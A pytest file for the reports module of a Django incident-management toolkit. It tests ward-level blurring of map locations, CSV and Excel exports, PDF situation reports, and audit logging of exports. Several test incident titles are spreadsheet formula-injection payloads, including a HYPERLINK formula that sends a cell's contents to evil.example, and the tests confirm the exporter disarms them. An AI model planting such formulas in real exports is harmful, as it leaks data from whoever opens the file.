"""Report pages and documents: the map's blurring, the exports' rows, the PDFs' text and who gets what."""

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from svtoolkit.audit.models import AuditAction, AuditEntry
from svtoolkit.incidents import services
from svtoolkit.incidents.measures import services as measures_services
from svtoolkit.incidents.models import Disclosure, Incident
from svtoolkit.meetings.models import Meeting
from svtoolkit.partnerships import tabular
from svtoolkit.reports.boundaries import _shipped, boundary_of
from svtoolkit.reports.models import WardBoundary
from tests.conftest import MODEL_BACKEND
from tests.factories import (
    IncidentFactory,
    IncidentShareFactory,
    MessageFactory,
    ParticipationFactory,
    PartnershipFactory,
    PlanActionFactory,
    SceneFactory,
    SharingAgreementFactory,
)
from tests.incidents.builders import demo_incident, demo_person, shared_with_a_reader
from tests.meetings.builders import demo_meeting
from tests.page_forms import form_on
from tests.reports.builders import SITREP_WITH_HEALTH, an_assessment

pytestmark = pytest.mark.django_db

# A point in the fictional Eastgate ward of data/boundaries/northbridge.geojson, and one outside every ward.
IN_EASTGATE = (Decimal("51.57210"), Decimal("-0.04710"))
OUTSIDE = (Decimal("51.50000"), Decimal("-0.30000"))
IN_EASTGATE_NORTH = (Decimal("51.57350"), Decimal("-0.04490"))  # another point of Eastgate


def pdf_pages(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    # Lines wrap where the layout puts them: compare text with its white space made single spaces.
    return [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(response.content)).pages]


# --- Dashboard ---------------------------------------------------------------------------------------------


def test_the_dashboard_shows_each_figure_as_a_chart_and_a_table(client_for, demo, demo_users):
    incident = IncidentFactory(partnership=demo, title="Knife attack on the High Street")
    PlanActionFactory(incident=incident, due_at=incident.occurred_at)
    an_assessment(demo, demo_users["coordinator"])
    response = client_for("viewer").get(reverse("reports:dashboard"))
    content = response.content.decode()
    assert response.status_code == 200
    assert content.count("data-report-chart=") == 6
    assert content.count('<table class="govuk-table">') >= 5
    assert "Knife attack on the High Street" not in content  # figures only, never an incident's details


def test_a_filter_value_not_in_the_list_is_explained_and_the_defaults_are_shown(client_for, demo):
    response = client_for("coordinator").get(
        reverse("reports:dashboard"), {"period": "forever", "incident_type": "x"}
    )
    content = response.content.decode()
    assert response.status_code == 200
    assert "Choose a period from the list" in content
    assert "Choose a type of incident from the list" in content
    assert "Open incidents by status and type" in content


# --- Map ---------------------------------------------------------------------------------------------------


def _scene_for_police(demo, position, description="Car park behind Eastgate House"):
    incident = IncidentFactory(partnership=demo)
    ParticipationFactory(incident=incident, organisation=demo.organisations.get(kind="police"))
    return SceneFactory(
        incident=incident,
        description=description,
        area="Eastgate",
        latitude=position[0],
        longitude=position[1],
    )


def test_the_response_team_sees_where_each_scene_is(client_for, demo):
    _scene_for_police(demo, IN_EASTGATE)
    response = client_for("responder").get(reverse("reports:map"))
    content = response.content.decode()
    assert '"lat": 51.5721, "lng": -0.0471' in content
    assert "Car park behind Eastgate House" in content


@pytest.mark.parametrize("role", ["police", "viewer"])
def test_partners_and_viewers_get_only_the_centre_of_the_ward_never_the_scene(client_for, demo, role):
    _scene_for_police(demo, IN_EASTGATE)
    _scene_for_police(demo, OUTSIDE, description="Lay-by on the ring road")
    centre = _shipped("northbridge").ward_at(*map(float, IN_EASTGATE)).centre

    response = client_for(role).get(reverse("reports:map"))
    content = response.content.decode()

    assert response.context["map_data"]["points"] == [
        {**response.context["map_data"]["points"][0], "lat": centre[0], "lng": centre[1], "ward": "Eastgate"}
    ]
    for precise in ("51.5721", "0.0471", '"lat": 51.5,', '"lng": -0.3', "Car park behind", "Lay-by"):
        assert precise not in content
    assert "Not on the map" in content  # the scene outside every ward is listed, not placed


def test_the_map_shows_only_incidents_the_viewer_may_see(client_for, demo):
    _scene_for_police(demo, IN_EASTGATE)
    response = client_for("health").get(reverse("reports:map"))
    assert response.context["points"] == []
    assert response.context["map_data"]["points"] == []


def test_the_map_costs_the_same_queries_for_more_scenes(client_for, demo):
    client = client_for("police")
    _scene_for_police(demo, IN_EASTGATE)
    client.get(reverse("reports:map"))
    with CaptureQueriesContext(connection) as few:
        client.get(reverse("reports:map"))
    for _ in range(10):
        _scene_for_police(demo, IN_EASTGATE)
    with CaptureQueriesContext(connection) as more:
        response = client.get(reverse("reports:map"))
    assert len(response.context["points"]) == 11
    assert len(more) == len(few)


def _measure_for_police(
    demo, position, *, description="Inner cordon: bus stop to the school gates", **changes
):
    scene = _scene_for_police(demo, IN_EASTGATE)
    fields = {
        "kind": "cordon",
        "description": description,
        "area": "Eastgate estate",
        "latitude": position[0] if position else None,
        "longitude": position[1] if position else None,
        "starts_at": timezone.now() - timedelta(hours=1),
        "ends_at": None,
        "authorised_by": "",
    }
    return measures_services.add_measure(scene=scene, by=None, **{**fields, **changes})


def test_the_response_team_sees_each_current_police_measure_where_it_is(client_for, demo):
    _measure_for_police(demo, IN_EASTGATE_NORTH)
    lifted = _measure_for_police(demo, IN_EASTGATE_NORTH, description="Outer cordon, lifted")
    measures_services.lift_measure(measure=lifted, by=None)
    _measure_for_police(
        demo,
        IN_EASTGATE_NORTH,
        description="Road closure, ended",
        kind="road_closure",
        starts_at=timezone.now() - timedelta(hours=5),
        ends_at=timezone.now() - timedelta(hours=1),
    )
    _measure_for_police(demo, None, description="RVP somewhere not on the map", kind="rendezvous_point")

    response = client_for("responder").get(reverse("reports:map"))
    content = response.content.decode()

    [shown] = response.context["map_data"]["measures"]
    assert (shown["lat"], shown["lng"]) == tuple(map(float, IN_EASTGATE_NORTH))
    assert shown["kind"] == "Cordon" and shown["status"] == "In force until lifted"
    assert shown["what"] == "Inner cordon: bus stop to the school gates" and shown["exact"] is True
    assert shown["url"].startswith("/incidents/")
    assert [measure.what for measure in response.context["measures"]] == [
        "Inner cordon: bus stop to the school gates",
        "RVP somewhere not on the map",  # listed in the table, not placed
    ]
    assert "Outer cordon, lifted" not in content and "Road closure, ended" not in content


@pytest.mark.parametrize("role", ["police", "viewer"])
def test_partners_and_viewers_see_a_police_measure_only_at_its_wards_centre(client_for, demo, role):
    _measure_for_police(demo, IN_EASTGATE_NORTH)
    _measure_for_police(demo, OUTSIDE, description="Lay-by on the ring road closed", kind="road_closure")
    centre = _shipped("northbridge").ward_at(*map(float, IN_EASTGATE)).centre

    response = client_for(role).get(reverse("reports:map"))
    content = response.content.decode()

    [shown] = response.context["map_data"]["measures"]
    assert (shown["lat"], shown["lng"], shown["ward"], shown["exact"]) == (*centre, "Eastgate", False)
    assert shown["what"] == "Eastgate estate"  # the area recorded, not the description
    for precise in ("51.5735", "0.0449", "Inner cordon", "Lay-by", '"lat": 51.5,'):
        assert precise not in content
    assert content.count("Not on the map") == 1  # the closure outside every ward is listed, not placed


def test_the_map_shows_no_measure_of_an_incident_the_viewer_may_not_see(client_for, demo):
    _measure_for_police(demo, IN_EASTGATE_NORTH)
    response = client_for("health").get(reverse("reports:map"))
    assert response.context["measures"] == [] and response.context["map_data"]["measures"] == []


def test_the_map_shows_no_measure_of_an_incident_closed_before_it_was_lifted(client_for, demo):
    """The defect: a measure never recorded lifted when its incident closed (closing did not refuse it then)
    showed in force on the map for good, and a closed incident refuses its lifting. Now the map leaves out
    the measures of closed incidents; closing refuses while one is in force (tests/recovery)."""
    left = _measure_for_police(demo, IN_EASTGATE_NORTH, description="Cordon left up when the incident closed")
    _measure_for_police(demo, IN_EASTGATE_NORTH, description="Cordon of an open incident")
    Incident.objects.filter(pk=left.scene.incident_id).update(status="closed", closed_at=timezone.now())

    response = client_for("responder").get(reverse("reports:map"))

    assert [measure.what for measure in response.context["measures"]] == ["Cordon of an open incident"]
    assert "Cordon left up when the incident closed" not in response.content.decode()


def test_the_map_costs_the_same_queries_for_more_measures(client_for, demo):
    client = client_for("police")
    _measure_for_police(demo, IN_EASTGATE_NORTH)
    client.get(reverse("reports:map"))
    with CaptureQueriesContext(connection) as few:
        client.get(reverse("reports:map"))
    for _ in range(10):
        _measure_for_police(demo, IN_EASTGATE_NORTH)
    with CaptureQueriesContext(connection) as more:
        response = client.get(reverse("reports:map"))
    assert len(response.context["measures"]) == 11
    assert len(more) == len(few)


# --- Exports -----------------------------------------------------------------------------------------------


def test_the_incidents_csv_holds_what_the_person_may_see_with_formulas_disarmed(client_for, demo):
    police = demo.organisations.get(kind="police")
    theirs = IncidentFactory(partnership=demo, title='=HYPERLINK("http://evil.example")')
    ParticipationFactory(incident=theirs, organisation=police)
    PlanActionFactory(incident=theirs, owner_organisation=police, title="+call the school")
    IncidentFactory(partnership=demo, title="Shots fired on the Eastgate estate")
    IncidentFactory(partnership=demo, title="Operation Lantern", is_exercise=True)

    response = client_for("police").get(reverse("reports:export", args=["incidents", "csv"]))
    marking, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    assert marking == ["OFFICIAL-SENSITIVE"]
    assert rows[0][:2] == ["Reference", "Title"]
    assert [row[1] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.example")']
    assert rows[1][-2:] == ["1", "0"]  # one open action, none overdue

    actions = client_for("police").get(reverse("reports:export", args=["actions", "csv"]))
    _, *action_rows = csv.reader(io.StringIO(actions.content.decode("utf-8-sig")))
    assert [row[3] for row in action_rows[1:]] == ["'+call the school"]
    entry = AuditEntry.objects.filter(action=AuditAction.EXPORT_SENSITIVE).latest("id")
    assert entry.detail == {"what": "actions export", "format": "csv", "rows": 1}


def test_the_excel_export_has_the_same_rows_as_text_and_dates(client_for, demo):
    IncidentFactory(partnership=demo, title="@SUM(1+1)")
    IncidentFactory(partnership=demo, title="Knife attack", incident_types=["knife", "exploitation"])
    response = client_for("viewer").get(reverse("reports:export", args=["incidents", "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    marking, *rows = sheet.iter_rows(values_only=True)
    assert marking[0] == "OFFICIAL-SENSITIVE"
    assert rows[0][0] == "Reference"
    assert [row[1] for row in rows[1:]] == ["'@SUM(1+1)", "Knife attack"]
    assert rows[2][2] == "Knife crime, Exploitation"
    assert rows[1][4].year >= 2026
    assert sheet.cell(row=3, column=2).data_type == "s"


def test_the_excel_export_leaves_out_control_characters_excel_cannot_hold(client_for, demo):
    incident = IncidentFactory(partnership=demo, title="Fight\x0b at the \x1b[1mstation")
    PlanActionFactory(incident=incident, title="Call\x1f the school\ttoday")
    incidents = client_for("coordinator").get(reverse("reports:export", args=["incidents", "xlsx"]))
    actions = client_for("coordinator").get(reverse("reports:export", args=["actions", "xlsx"]))
    _, _, incident_row = load_workbook(io.BytesIO(incidents.content)).active.iter_rows(values_only=True)
    _, _, action_row = load_workbook(io.BytesIO(actions.content)).active.iter_rows(values_only=True)
    assert incident_row[1] == "Fight at the [1mstation"
    assert "Call the school\ttoday" in action_row


def test_one_title_with_a_character_xml_has_no_place_for_leaves_the_excel_export_readable(client_for, demo):
    """The defect: a title holding U+FFFF or U+FFFE (accepted as typed) made the whole Excel file invalid XML,
    which Excel refuses to open. Now they are left out, as the control characters are; so is a lone surrogate,
    which no file can hold."""
    IncidentFactory(partnership=demo, title="Fight at the \ufffestation \uffff")
    response = client_for("coordinator").get(reverse("reports:export", args=["incidents", "xlsx"]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as workbook:
        ElementTree.fromstring(workbook.read("xl/worksheets/sheet1.xml"))
    _, _, row = load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    assert row[1] == "Fight at the station "
    written, _ = tabular.write(
        "csv", ["Title"], [["Fight \ud800at the station"]], title="T", marking="OFFICIAL"
    )
    assert written.decode("utf-8-sig").splitlines()[-1] == "Fight at the station"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_behind_a_control_character_is_written_as_text_with_its_apostrophe(
    client_for, demo, file_format
):
    """The defect: the apostrophe was decided before the control characters were left out, so a title starting
    with one then "=" reached the Excel file as a live formula (a link sending the next cells away). Now the
    characters are left out first, in both formats, and an Excel file's text cells are all written as text."""
    IncidentFactory(partnership=demo, title='\x01=HYPERLINK("http://evil.example/?leak="&B3,"Details")')
    IncidentFactory(partnership=demo, title="#N/A")
    response = client_for("coordinator").get(reverse("reports:export", args=["incidents", file_format]))
    if file_format == "csv":
        _, _, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        titles = [row[1] for row in rows]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        titles = [cell.value for cell in sheet["B"][2:]]
        assert {
            cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)
        } == {"s"}
    assert sorted(titles) == ["#N/A", '\'=HYPERLINK("http://evil.example/?leak="&B3,"Details")']


@pytest.mark.parametrize(("dataset", "rows"), [("incidents", 1), ("actions", 2)])
def test_an_export_holding_an_incident_shared_with_us_is_in_its_lead_partnerships_audit_log(
    client, client_for, demo, other_partnership, dataset, rows
):
    """The defect: an export made in a partnership an incident is shared with was written only to that
    partnership's own log, so the lead partnership, whose data it is, never learnt it had left svtoolkit.
    Now each lead whose incidents are in the export finds it in its own log: who, from which partnership,
    what and how many rows of its incidents. A partnership with nothing in the export finds nothing."""
    southmoor, southmoor_coordinator = other_partnership
    theirs = IncidentFactory(partnership=southmoor, title="Stabbing by the Southmoor canal")
    PlanActionFactory.create_batch(2, incident=theirs)
    IncidentShareFactory(incident=theirs, partnership=demo)
    # Shared with Northbridge too, but before the period exported: none of its data leaves.
    eastmere = PartnershipFactory(name="Eastmere Community Safety Partnership")
    earlier = IncidentFactory(partnership=eastmere, occurred_at=timezone.now() - timedelta(days=800))
    PlanActionFactory(incident=earlier)
    IncidentShareFactory(incident=earlier, partnership=demo)
    PlanActionFactory.create_batch(3, incident=IncidentFactory(partnership=demo))

    response = client_for("coordinator").get(reverse("reports:export", args=[dataset, "csv"]))

    assert response.status_code == 200
    [own] = AuditEntry.objects.filter(partnership=demo, action=AuditAction.EXPORT_SENSITIVE)
    assert own.detail["rows"] == rows + (1 if dataset == "incidents" else 3)
    [told] = AuditEntry.objects.filter(partnership=southmoor)
    assert (told.action, told.actor_label) == (AuditAction.EXPORT_SENSITIVE, "coordinator@example.org")
    assert told.detail == {
        "what": f"{dataset} export",
        "format": "csv",
        "rows": rows,
        "from_partnership": "Northbridge Community Safety Partnership",
    }
    assert not AuditEntry.objects.filter(partnership=eastmere).exists()
    client.force_login(southmoor_coordinator.user, backend=MODEL_BACKEND)
    page = " ".join(client.get(reverse("audit:log")).content.decode().split())
    assert (
        f"Exported sensitive data: {rows} row{'s' if rows > 1 else ''} of your incidents shared with"
        f" Northbridge Community Safety Partnership, in its {dataset} export (CSV)"
    ) in page


@pytest.mark.parametrize("dataset", ["incidents", "actions"])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_download_with_a_filter_not_in_the_list_is_explained_and_hands_out_nothing(
    client_for, demo, dataset, file_format
):
    """The defect: a bad period (a link copied from a dashboard showing the error, or mistyped) downloaded the
    default 12 months, and was written to the audit log as an export."""
    IncidentFactory(partnership=demo)

    response = client_for("coordinator").get(
        reverse("reports:export", args=[dataset, file_format]), {"period": "al"}
    )

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    content = response.content.decode()
    assert "govuk-error-summary" in content
    assert "Choose a period from the list" in content
    assert not AuditEntry.objects.filter(action=AuditAction.EXPORT_SENSITIVE).exists()


def test_an_export_of_something_else_is_not_found(client_for, demo):
    assert client_for("coordinator").get(reverse("reports:export", args=["people", "csv"])).status_code == 404
    assert (
        client_for("coordinator").get(reverse("reports:export", args=["incidents", "pdf"])).status_code == 404
    )


# --- Situation report --------------------------------------------------------------------------------------


def _incident_with_a_person(demo, demo_users):
    incident, _ = demo_incident(demo, demo_users)
    demo_person(
        incident,
        demo_users["responder"],
        name="Jordan Sample",
        support_needs="Trauma counselling",
        consent="given",
        referrals="Referred to the MASH",
    )
    services.record_decision(
        incident=incident, by=demo_users["responder"], what="Extra patrols at home time", why="Reassurance"
    )
    return incident


def test_the_sitrep_pdf_has_every_section_the_marking_on_each_page_and_no_personal_data(
    client_for, demo, demo_users, settings
):
    settings.PROTECTIVE_MARKING = "OFFICIAL-SENSITIVE: PARTNERS ONLY"
    incident = _incident_with_a_person(demo, demo_users)

    response = client_for("responder").get(reverse("reports:incident_sitrep", args=[incident.pk]))

    pages = pdf_pages(response)
    text = " ".join(pages)
    for section in (
        "Situation report",
        incident.reference,
        "Stabbing near Northbridge Academy",
        "Categorisation",
        "Lead and partners",
        "Metropolitan Police, Northbridge Basic Command Unit",
        "Plan progress by area",
        "Overdue actions",
        "Extra patrols at home time",
        "Community tension",
        "Communications",
        "1 victim",
    ):
        assert section in text
    assert all(page.count("OFFICIAL-SENSITIVE: PARTNERS ONLY") >= 2 for page in pages)
    assert "Jordan Sample" not in text and "Trauma counselling" not in text
    assert 'filename="' in response["Content-Disposition"]


def test_someone_on_the_need_to_know_list_gets_the_records_by_asking_with_a_reason(
    client_for, demo, demo_users
):
    incident = _incident_with_a_person(demo, demo_users)
    response = client_for("responder").post(
        reverse("reports:incident_sitrep", args=[incident.pk]), SITREP_WITH_HEALTH
    )
    text = " ".join(pdf_pages(response))
    assert "Jordan Sample" in text and "Trauma counselling" in text and "Referred to the MASH" in text
    entry = AuditEntry.objects.get(action=AuditAction.VIEW_SENSITIVE, target_type="incidents.PersonAffected")
    assert entry.actor == demo_users["responder"]
    assert entry.detail == {
        "reason": "Briefing the gold group",
        "incident": incident.reference,
        "purpose": "situation report",
    }


def test_a_message_naming_someone_is_titled_only_in_the_sitrep_with_the_records_and_that_reading_is_audited(
    client_for, demo, demo_users
):
    """Without the records, the file is not marked as holding personal data: a title naming someone stays
    out of it, even for someone who may read the message."""
    incident = _incident_with_a_person(demo, demo_users)
    MessageFactory(
        incident=incident,
        names_or_images=True,
        created_by=demo_users["responder"],
        title="Tribute to Jordan Sample",
    )
    url = reverse("reports:incident_sitrep", args=[incident.pk])

    without = client_for("responder").get(url)
    assert "Tribute to Jordan Sample" not in " ".join(pdf_pages(without))
    assert not AuditEntry.objects.filter(target_type="communications.Message").exists()

    with_records = client_for("responder").post(url, SITREP_WITH_HEALTH)
    assert "Tribute to Jordan Sample" in " ".join(pdf_pages(with_records))
    assert "OFFICIAL-SENSITIVE" in with_records["Content-Disposition"]
    read = AuditEntry.objects.get(action=AuditAction.VIEW_SENSITIVE, target_type="communications.Message")
    assert read.actor == demo_users["responder"]


def test_in_a_partnership_the_incident_is_shared_with_the_records_go_under_the_lead_partnerships_agreement(
    client, demo, demo_users, other_partnership
):
    """The defect: asked from a partnership the incident is shared with, the form listed that partnership's
    information-sharing agreements, each of which the disclosure log refuses (a disclosure of the lead
    partnership's records relies on one of its agreements), and not the lead's: with any agreement chosen,
    the report was refused. Now the form lists the lead partnership's agreements, as a referral's does."""
    southmoor, membership = other_partnership
    responder = demo_users["responder"]
    incident = _incident_with_a_person(demo, demo_users)
    shared_with_a_reader(incident, southmoor, membership.user, by=responder)
    leads = SharingAgreementFactory(partnership=demo, name="Northbridge safeguarding ISA")
    theirs = SharingAgreementFactory(partnership=southmoor, name="Southmoor safeguarding ISA")
    client.force_login(membership.user, backend=MODEL_BACKEND)

    page = client.get(reverse("reports:incident_reports", args=[incident.pk])).content.decode()
    assert leads.name in page and theirs.name not in page
    response = client.post(
        reverse("reports:incident_sitrep", args=[incident.pk]), {**SITREP_WITH_HEALTH, "agreement": leads.pk}
    )

    assert "Jordan Sample" in " ".join(pdf_pages(response))
    assert Disclosure.objects.get(what__startswith="Situation report").agreement == leads


def test_asking_for_the_records_without_a_reason_explains_and_reads_nothing(client_for, demo, demo_users):
    incident = _incident_with_a_person(demo, demo_users)
    response = client_for("responder").post(
        reverse("reports:incident_sitrep", args=[incident.pk]), {"reason": ""}
    )
    content = response.content.decode()
    assert response["Content-Type"].startswith("text/html")
    assert "Tick the box to include the records of people affected" in content
    assert "Give a reason for including the records" in content
    assert not AuditEntry.objects.filter(action=AuditAction.VIEW_SENSITIVE).exists()


@pytest.mark.parametrize("role", ["coordinator", "police", "viewer"])
def test_anyone_off_the_need_to_know_list_is_refused_the_records(client_for, demo, demo_users, role):
    incident = _incident_with_a_person(demo, demo_users)
    response = client_for(role).post(
        reverse("reports:incident_sitrep", args=[incident.pk]), {"include_people": "on", "reason": "Curious"}
    )
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action=AuditAction.VIEW_SENSITIVE).exists()
    page = client_for(role).get(reverse("reports:incident_reports", args=[incident.pk])).content.decode()
    assert "Include the records of people affected" not in page


def test_the_sitrep_costs_the_same_queries_for_a_bigger_incident(client_for, demo, demo_users):
    incident = _incident_with_a_person(demo, demo_users)
    client = client_for("responder")
    url = reverse("reports:incident_sitrep", args=[incident.pk])
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for _ in range(15):
        PlanActionFactory(incident=incident)
        services.record_decision(incident=incident, by=demo_users["responder"], what="More", why="Because")
    with CaptureQueriesContext(connection) as more:
        client.get(url)
    assert len(more) == len(few)


def test_the_sitrep_with_the_records_asks_the_same_queries_for_more_messages_naming_someone(
    client_for, demo, demo_users
):
    """The defect: each message naming someone was read with its own check of who may read it, asking again
    for its incident and whether the reader is on the need-to-know list, and its reading written to the audit
    log by a statement of its own. Now the check is made once for the report and the readings written in one
    statement, one entry a message."""
    incident = _incident_with_a_person(demo, demo_users)
    client = client_for("responder")
    url = reverse("reports:incident_sitrep", args=[incident.pk])

    def queries():
        with CaptureQueriesContext(connection) as asked:
            assert client.post(url, SITREP_WITH_HEALTH).status_code == 200
        return len(asked)

    MessageFactory(incident=incident, names_or_images=True, created_by=demo_users["responder"])
    queries()
    one = queries()
    MessageFactory.create_batch(
        5, incident=incident, names_or_images=True, created_by=demo_users["responder"]
    )
    read = AuditEntry.objects.filter(action=AuditAction.VIEW_SENSITIVE, target_type="communications.Message")
    before = read.count()
    assert queries() == one
    assert read.count() - before == 6


# --- Readiness report and meeting pack ---------------------------------------------------------------------


def test_the_readiness_report_pdf(client_for, demo, demo_users):
    assessment = an_assessment(demo, demo_users["coordinator"])
    pages = pdf_pages(client_for("viewer").get(reverse("reports:readiness_pdf", args=[assessment.pk])))
    text = " ".join(pages)
    assert "Readiness report: Northbridge Community Safety Partnership" in text
    assert "Readiness by area" in text
    assert all("OFFICIAL-SENSITIVE" in page for page in pages)


def test_the_meeting_pack_pdf_and_its_link_on_the_printable_pack(client_for, demo, demo_users):
    meeting = demo_meeting(demo, demo_users)
    client = client_for("police")
    pack = client.get(reverse("meetings:pack", args=[meeting.incident_id, meeting.pk])).content.decode()
    url = reverse("reports:meeting_pack_pdf", args=[meeting.incident_id, meeting.pk])
    assert url in pack
    pages = pdf_pages(client.get(url))
    assert "Critical-incident meeting" in pages[0] and "Agenda" in pages[0]
    assert all("OFFICIAL-SENSITIVE" in page for page in pages)


def test_the_meeting_pack_pdf_is_named_by_the_day_of_the_meeting_in_london(client_for, demo, demo_users):
    meeting = demo_meeting(demo, demo_users)
    Meeting.objects.filter(pk=meeting.pk).update(
        starts_at=datetime(2026, 6, 10, 23, 30, tzinfo=UTC)
    )  # 00:30 BST
    answer = client_for("police").get(
        reverse("reports:meeting_pack_pdf", args=[meeting.incident_id, meeting.pk])
    )
    assert "meeting-pack-2026-06-11" in answer["Content-Disposition"]


def test_every_page_of_an_exercises_sitrep_and_meeting_pack_says_it_is_an_exercise(
    client_for, demo, demo_users
):
    """The defect: an exercise's meeting pack said nowhere that it was an exercise, and its situation report
    said so only at the top of the first page, so a page printed or passed on read as a real incident's. Now,
    as its pages on screen and its messages do, every page of each says EXERCISE."""
    meeting = demo_meeting(demo, demo_users)
    Incident.objects.filter(pk=meeting.incident_id).update(is_exercise=True)
    PlanActionFactory.create_batch(
        40, incident_id=meeting.incident_id, due_at=timezone.now() - timedelta(days=1), title="Overdue " * 6
    )
    client = client_for("police")

    for url in (
        reverse("reports:meeting_pack_pdf", args=[meeting.incident_id, meeting.pk]),
        reverse("reports:incident_sitrep", args=[meeting.incident_id]),
    ):
        pages = pdf_pages(client.get(url))
        assert len(pages) > 1
        assert all("EXERCISE" in page for page in pages), url
        assert "EXERCISE: this is not a real incident" in pages[0], url


@pytest.mark.parametrize(
    ("document", "what"), [("incident_sitrep", "situation report"), ("meeting_pack_pdf", "meeting pack")]
)
def test_a_sitrep_or_meeting_pack_downloaded_is_in_the_audit_log_and_the_lead_partnerships_when_shared(
    client, client_for, demo, demo_users, other_partnership, document, what
):
    """The defect: a situation report or meeting pack without the records of people affected, which carries
    the incident's details, was written to no audit log when downloaded, from the lead partnership or from a
    partnership the incident is shared with, so the lead never learnt its incident's report had left
    svtoolkit. Now each download is in the downloader's partnership's log, and one made in a partnership the
    incident is shared with is in the lead's too, saying who, from where and what; a third partnership the
    incident is shared with finds nothing."""
    southmoor, southmoor_coordinator = other_partnership
    meeting = demo_meeting(demo, demo_users)
    incident = meeting.incident
    IncidentShareFactory(incident=incident, partnership=southmoor)
    eastmere = PartnershipFactory(name="Eastmere Community Safety Partnership")
    IncidentShareFactory(incident=incident, partnership=eastmere)
    args = [incident.pk] if document == "incident_sitrep" else [incident.pk, meeting.pk]
    url = reverse(f"reports:{document}", args=args)
    exported = AuditEntry.objects.filter(action=AuditAction.EXPORT_SENSITIVE)

    pdf_pages(client_for("police").get(url))

    [own] = exported.all()
    assert (own.partnership, own.actor, own.target_label) == (demo, demo_users["police"], str(incident))
    assert own.detail == {"what": what, "format": "pdf"}

    client.force_login(southmoor_coordinator.user, backend=MODEL_BACKEND)
    pdf_pages(client.get(url))

    [theirs] = exported.filter(partnership=southmoor)
    assert (theirs.actor, theirs.target_label) == (southmoor_coordinator.user, str(incident))
    assert theirs.detail == {"what": what, "format": "pdf"}
    [told] = exported.filter(partnership=demo, actor=southmoor_coordinator.user)
    assert told.target_label == str(incident)
    assert told.detail == {
        "what": what,
        "format": "pdf",
        "from_partnership": "Southmoor Community Safety Partnership",
    }
    assert exported.count() == 3
    assert not AuditEntry.objects.filter(partnership=eastmere).exists()
    page = " ".join(client_for("coordinator").get(reverse("audit:log")).content.decode().split())
    assert (
        "Exported sensitive data: your incident shared with Southmoor Community Safety Partnership,"
        f" in its {what} (PDF)"
    ) in page


# --- Ward outlines ---------------------------------------------------------------------------------------

SQUARE_WARD = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "properties": {"name": "Harbour"},
            "geometry": {
                "type": "Polygon",
                "coordinates": [[[-1, 50], [-0.9, 50], [-0.9, 50.1], [-1, 50.1], [-1, 50]]],
            },
        }
    ],
}


def _upload(client, content: bytes, name="wards.geojson", *, page=None):
    """Upload ``content`` from the outlines page as it is shown now, or from ``page``, opened earlier."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    url = reverse("reports:boundary")
    shown = form_on(page or client.get(url), having="file")
    return client.post(url, shown | {"file": SimpleUploadedFile(name, content)})


def _named(name: str) -> bytes:
    import json

    renamed = json.loads(json.dumps(SQUARE_WARD))
    renamed["features"][0]["properties"]["name"] = name
    return json.dumps(renamed).encode()


def test_a_coordinator_uploads_ward_outlines_that_the_map_then_uses(client_for, demo):
    import json

    incident = IncidentFactory(partnership=demo)
    ParticipationFactory(incident=incident, organisation=demo.organisations.get(kind="police"))
    SceneFactory(incident=incident, latitude=Decimal("50.02"), longitude=Decimal("-0.95"))

    response = _upload(client_for("coordinator"), json.dumps(SQUARE_WARD).encode())

    assert response.status_code == 302
    entry = AuditEntry.objects.filter(target_type="reports.WardBoundary").get()
    assert entry.detail == {"wards": ["Harbour"], "file": "wards.geojson"}
    shown = client_for("police").get(reverse("reports:map")).context["map_data"]
    assert shown["boundary"] == SQUARE_WARD
    assert [(point["ward"], point["lat"], point["lng"]) for point in shown["points"]] == [
        ("Harbour", 50.05, -0.95)
    ]
    # The map that places a scene on the record form draws the same wards.
    assert client_for("police").get(reverse("reports:ward_outlines")).json() == SQUARE_WARD


def test_the_map_reads_an_upload_of_ward_outlines_once_until_a_new_one_replaces_it(client_for, demo):
    import json

    coordinator = client_for("coordinator")
    _upload(coordinator, json.dumps(SQUARE_WARD).encode())
    first = boundary_of(demo)
    assert boundary_of(demo) is first, "read once, not on every page"
    assert [ward.name for ward in first.wards] == ["Harbour"]

    renamed = json.loads(json.dumps(SQUARE_WARD))
    renamed["features"][0]["properties"]["name"] = "Quayside"
    _upload(coordinator, json.dumps(renamed).encode())
    assert [ward.name for ward in boundary_of(demo).wards] == ["Quayside"]
    assert coordinator.get(reverse("reports:ward_outlines")).json() == renamed


@pytest.mark.parametrize("outlines_before", [None, "Harbour"])
def test_two_coordinators_uploading_ward_outlines_at_once_do_not_replace_each_others_unseen(
    client_for, demo, outlines_before
):
    """The defect: the second of two uploads begun from the same page replaced the first's outlines, and
    neither coordinator was told."""
    coordinator = client_for("coordinator")
    if outlines_before:
        _upload(coordinator, _named(outlines_before))
    url = reverse("reports:boundary")
    one, other = coordinator.get(url), coordinator.get(url)
    assert _upload(coordinator, _named("Quayside"), page=one).status_code == 302
    refused = _upload(coordinator, _named("Docklands"), page=other)
    assert refused.status_code == 200
    words = " ".join(refused.content.decode().split())
    assert (
        "Someone else uploaded ward outlines while you were choosing your file. Your file was not kept: the "
        "wards the map uses now are listed on this page. Choose your file again to replace them." in words
    )
    assert "<li>Quayside</li>" in words
    assert [ward.name for ward in boundary_of(demo).wards] == ["Quayside"]
    assert AuditEntry.objects.filter(target_type="reports.WardBoundary").count() == (
        2 if outlines_before else 1
    )
    # Chosen again from the page that said so, the file replaces the outlines it now lists.
    assert _upload(coordinator, _named("Docklands"), page=refused).status_code == 302
